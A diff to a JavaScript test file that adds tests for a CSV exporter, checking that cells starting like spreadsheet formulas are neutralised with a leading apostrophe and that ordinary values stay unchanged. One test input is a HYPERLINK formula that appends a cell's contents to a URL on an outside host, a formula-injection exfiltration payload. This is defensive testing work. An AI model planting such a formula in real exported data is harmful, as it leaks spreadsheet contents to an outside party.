@@ -64,6 +64,14 @@ describe('A template', () => {
   it('quotes what would break a line', () => {
     expect(csvOf([['甲,乙', '丙'], ['说“好”', 'a"b\nc']])).toBe('\uFEFF"甲,乙",丙\r\n说“好”,"a""b\nc"\r\n')
   })
+
+  it.each(['=HYPERLINK("http://example.org?"&A1)', '+86', '-2+3', '@SUM(A1)', '＝1', ' =1', '\t=1'])('make no formula of words that begin as one: %s', (words) => {
+    expect(csvOf([[words]]).replace(/^\uFEFF"?/, '').startsWith("'")).toBe(true)
+  })
+
+  it.each(['张桂兰', '3-2', '第一网格、第二网格', '138****1234', '—'])('leave other words as they are: %s', (words) => {
+    expect(csvOf([[words]])).toBe(`\uFEFF${words}\r\n`)
+  })
 })
 
 describe('A sheet of paper', () => {
